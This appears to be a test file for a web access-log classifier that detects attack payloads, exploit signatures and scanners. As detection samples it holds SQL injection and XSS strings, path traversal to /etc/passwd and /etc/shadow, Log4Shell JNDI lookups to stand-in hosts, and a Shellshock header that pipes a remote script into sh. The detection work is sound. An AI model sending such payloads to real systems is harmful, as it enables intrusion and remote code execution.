import { test } from 'uvu';
import * as assert from 'uvu/assert';
import {
  AUTH_TARGETS,
  classifyHeader,
  classifyPath,
  classifyQuery,
  EXPLOIT_SIGNATURES,
  mayHoldPayload,
  PATH_AUTH_FORM,
  PATH_AUTH_TOKEN,
  PATH_EXPLOIT,
  PATH_PAYLOAD,
  PATH_SCANNER,
  PATH_SENSITIVE,
  PATH_STATIC,
  PATH_WELL_KNOWN,
  payloadKind,
  SCANNER_MARKS,
  signaturesIn,
} from '../../src/features/classify.js';
import { unescapeLogged } from '../../src/logs/parse.js';

test('attack payloads are recognised in paths and queries, encoded once or twice', () => {
  const attacks: Array<[string, string]> = [
    ["?id=1'%20OR%20'1'='1", 'sql injection'],
    ['?id=1%20UNION%20SELECT%20NULL,version()--', 'sql injection'],
    ['?id=1%2520UNION%2520ALL%2520SELECT%2520NULL', 'sql injection'],
    ['?page=1%20AND%20SLEEP(5)', 'sql injection'],
    ['?q=%3Cscript%3Ealert(1)%3C/script%3E', 'cross-site scripting'],
    ['?q=%22%3E%3Csvg/onload=alert(1)%3E', 'cross-site scripting'],
    ['/download?file=../../../../etc/passwd', 'path traversal'],
    ['/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir', 'path traversal'],
    ['?page=php://filter/convert.base64-encode/resource=index', 'path traversal'],
    ['?host=127.0.0.1%3Bcat%20/etc/shadow', 'path traversal'],
    ['?date=5%7Cid', 'command injection'],
    ['?x=$%7Bjndi:ldap://attacker.example/a%7D', 'command injection'],
    ['?search=%24%7Burl%3AUTF-8%3Ahttps%3A%2F%2Fexample.com%2F%7D', 'command injection'],
    ['?content=%3C?php%20phpinfo();?%3E', 'exploit'],
    ['http://proxy-check.example:80/ip4.php', 'exploit'],
  ];
  for (const [text, kind] of attacks) assert.is(payloadKind(text), kind, text);
  const benign = [
    '?q=alpine+hut',
    '?q=select a room from the list',
    "?q=o'brien",
    '?q=rock%20%26%20roll',
    '?utm_source=newsletter&utm_medium=email',
    '?since=1700000000',
    '?q=it%27s%20(great)',
    '/blog/2019/10/the-best-of-summer',
    '/images/logo.png',
    '?price=$12',
    '?filter={size:large}',
    '?next=http://www.example.org/',
    '?option=com_content&view=article&id=49&Itemid=55',
    '?page=2&id=7',
    '?ref=home&ls=1',
  ];
  for (const text of benign) assert.is(payloadKind(text), null, text);
});

test('a query without any payload character needs no closer look for payloads (signatures are checked apart)', () => {
  assert.ok(classifyQuery('?s=/index/think/app/invokefunction&function=call_user_func_array') & PATH_EXPLOIT);
  const yes = ["?id=1'", '?q=%3C', '?a=(1)', '?f=../x', '?x=${y}', '?a=1;b', '?a=`id`'];
  const no = ['?q=alpine', '?since=1700000000&page=2', '?a=b.c', '?s=/index/think/app/invokefunction'];
  for (const q of yes) assert.ok(mayHoldPayload(Buffer.from(q), 0, q.length), q);
  for (const q of no) assert.not.ok(mayHoldPayload(Buffer.from(q), 0, q.length), q);
});

test('paths: static assets, sensitive places, payloads, and the files clients ask for on their own', () => {
  assert.is(classifyPath('/static/site.css'), PATH_STATIC);
  assert.is(classifyPath('/wp-login.php'), PATH_SENSITIVE | PATH_AUTH_FORM);
  assert.ok(classifyPath('/cgi-bin/../../bin/sh') & PATH_PAYLOAD);
  for (const p of [
    '/apple-touch-icon.png',
    '/apple-touch-icon-120x120-precomposed.png',
    '/favicon.ico',
    '/robots.txt',
    '/sitemap.xml',
    '/.well-known/security.txt',
  ])
    assert.ok(classifyPath(p) & PATH_WELL_KNOWN, p);
  for (const p of ['/icons/apple.png', '/robots.txt.bak', '/wp-admin/favicon.ico']) assert.not.ok(classifyPath(p) & PATH_WELL_KNOWN, p);
});

/** Requests and headers of ordinary sites: none may carry a signature or a scanner's mark. */
const ORDINARY_TARGETS = [
  '/',
  '/index.php?option=com_content&view=article&id=49&Itemid=55',
  '/wp-admin/post.php?post=123&action=edit',
  '/wp-admin/admin-ajax.php',
  '/search?q=rock+%26+roll',
  '/search?q=O%27Brien',
  '/products/42?color=red&size=m',
  '/remote.php/dav/files/alice/Documents/Report%202026.odt',
  '/ocs/v2.php/apps/notifications/api/v2/notifications?format=json',
  '/graphql',
  '/api/v1/orders?since=2026-12-07T10:00:00Z',
  '/wiki/%D0%9F%D0%BE%D0%B3%D0%BE%D0%B4%D0%B0_%D0%B2_%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B5_%D0%B8_%D0%9F%D0%BE%D0%B4%D0%BC%D0%BE%D1%81%D0%BA%D0%BE%D0%B2%D1%8C%D0%B5_%D0%BD%D0%B0_%D0%BD%D0%B5%D0%B4%D0%B5%D0%BB%D1%8E',
  '/contact?message=hello%0D%0Aworld',
  '/misc/nmh//%22file://$file/%22',
  '/blog/2019/10/the-shell-script-guide',
  '/docs/bash-tutorial',
];
const ORDINARY_HEADERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
  'GitHub-Hookshot/a1b2c3d',
  'Mozilla/5.0 (Linux) mirall/3.10.1 (Nextcloud, ubuntu-6.5.0 ClientArchitecture: x86_64 OsArchitecture: x86_64)',
  'curl/8.5.0',
  'python-requests/2.31.0',
  'https://www.example.org/search?q=%22exact+phrase%22',
  'https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web',
  'https://shop.example.org/cart?items={"a":1}',
];

test('every exploit signature and scanner mark fires on its sample, where it applies', () => {
  for (const s of [...EXPLOIT_SIGNATURES, ...SCANNER_MARKS]) {
    const fields = s.agentOnly ? (['agent'] as const) : s.targetOnly ? (['path'] as const) : (['path', 'agent'] as const);
    for (const f of fields) assert.ok(signaturesIn(s.sample, f).includes(s.name), `${s.name} in the ${f}: ${s.sample}`);
    if (s.agentOnly) {
      assert.is(classifyHeader(s.sample), PATH_SCANNER, `${s.name} in an agent`);
      assert.not.ok(signaturesIn(s.sample, 'path').includes(s.name), `${s.name} in a path is a page about it`);
      continue;
    }
    const q = s.sample.indexOf('?');
    const flags = q > 0 ? classifyPath(s.sample.slice(0, q)) | classifyQuery(s.sample.slice(q)) : classifyPath(s.sample);
    // In a query, text people type too (natural) is a payload; anywhere else an unmistakable attack.
    assert.ok(flags & (s.natural ? PATH_EXPLOIT | PATH_PAYLOAD | PATH_SCANNER : PATH_EXPLOIT | PATH_SCANNER), `classified: ${s.name}`);
  }
});

test('text people type in a search box is a payload there, not an unmistakable attack', () => {
  for (const q of [
    '?q=union+select+tutorial',
    '?q=%3Cscript%3E+xss+explained',
    '?q=win.ini+location',
    '?q=chmod+777',
    '?q=%2Fetc%2Fpasswd+format',
    '?q=%7B%7B7*7%7D%7D+angular',
    '?q=java.lang.Runtime',
  ]) {
    const f = classifyQuery(q);
    assert.not.ok(f & PATH_EXPLOIT, q);
  }
  assert.is(classifyQuery('?q=%24%7Benv%3AHOME%7D') & PATH_EXPLOIT, 0, '${env:HOME} in a search');
  assert.ok(classifyQuery('?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D') & PATH_EXPLOIT, 'a JNDI lookup is one anywhere');
  assert.ok(classifyPath('/etc/passwd') & PATH_EXPLOIT, 'in a path it is one');
  assert.is(classifyPath('/blog/nmap-tutorial') & PATH_SCANNER, 0, "a scanner's name in a path is a page about it");
  assert.ok(classifyPath('/docs/../../etc') & PATH_EXPLOIT, 'raw dot-dot segments climbing');
  assert.not.ok(classifyPath('/static/js/webpack:///./src/../node_modules/react/index.js') & PATH_EXPLOIT, 'one, in a source-map path');
  assert.not.ok(classifyPath('/docs/linux/etc/passwd') & PATH_EXPLOIT, 'a page about the file');
  assert.not.ok(classifyPath('/api/v4/projects/1/repository/files/src%2F..%2FREADME.md/raw') & PATH_EXPLOIT, 'an encoded one is a parameter');
});

test('ordinary requests and headers carry no signature', () => {
  for (const t of ORDINARY_TARGETS) assert.equal(signaturesIn(t, 'path'), [], t);
  for (const h of ORDINARY_HEADERS) assert.is(classifyHeader(h), 0, h);
});

test('exploits in headers: JNDI and Shellshock in a user agent or referer, escaped as Apache and nginx write them', () => {
  assert.is(classifyHeader('${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/abc}'), PATH_EXPLOIT);
  assert.is(classifyHeader('${jndi:${lower:l}${lower:d}a${lower:p}://world80.example/a}'), PATH_EXPLOIT);
  assert.is(classifyHeader('() { :; }; /bin/bash -c \\"curl http://198.51.100.7/x | sh\\"'), PATH_EXPLOIT);
  assert.is(classifyHeader('\\x24{jndi:dns://x.example/a}'), PATH_EXPLOIT, 'nginx escapes $ as \\x24 only in odd setups; decoded alike');
  assert.is(classifyHeader('sqlmap/1.7.2#stable (https://sqlmap.org)'), PATH_SCANNER);
  assert.is(unescapeLogged('a \\"b\\" \\x41'), 'a "b" A');
  // A referer is an absolute URL: the open-proxy signature is for request targets only.
  assert.is(classifyHeader('http://www.example.org/page'), 0);
  assert.ok(classifyPath('maila.microsoft.com:25') & PATH_EXPLOIT);
});

test('authentication targets: login forms and token endpoints, by data', () => {
  assert.ok(AUTH_TARGETS.length > 10);
  assert.ok(classifyPath('/wp-login.php') & PATH_AUTH_FORM);
  assert.ok(classifyPath('/xmlrpc.php') & PATH_AUTH_FORM);
  assert.ok(classifyPath('//administrator/index.php') & PATH_AUTH_FORM);
  assert.ok(classifyPath('/api/auth/refresh') & PATH_AUTH_TOKEN);
  assert.ok(classifyPath('/oauth/token') & PATH_AUTH_TOKEN);
  assert.not.ok(classifyPath('/wp-admin/admin-ajax.php') & (PATH_AUTH_FORM | PATH_AUTH_TOKEN));
  assert.not.ok(classifyPath('/author/alice') & (PATH_AUTH_FORM | PATH_AUTH_TOKEN));
  assert.ok(classifyPath('/account/login', ['/account/']) & PATH_AUTH_FORM);
});

test('a script the site is asked for is a sensitive place (failing there is probing)', () => {
  assert.ok(classifyPath('/wp-inc.php') & PATH_SENSITIVE);
  assert.ok(classifyPath('/cgi-bin/test.cgi') & PATH_SENSITIVE);
  assert.not.ok(classifyPath('/blog/post-1') & PATH_SENSITIVE);
});

test('the payload check on bytes and on text agree, so every log format gets the same answer', () => {
  const samples = [...ORDINARY_TARGETS, ...EXPLOIT_SIGNATURES.map((s) => s.sample), "?id=1'", '?q=a+and+1=1', '?a=1&id=2', '?x=$%7Bjndi:a%7D'];
  for (const t of samples) {
    const q = t.indexOf('?');
    if (q < 0) continue;
    const query = t.slice(q);
    const viaBytes = mayHoldPayload(Buffer.from(query, 'latin1'), 0, query.length) ? payloadKind(query) : null;
    assert.is(viaBytes, payloadKind(query), query);
  }
});

test.run();
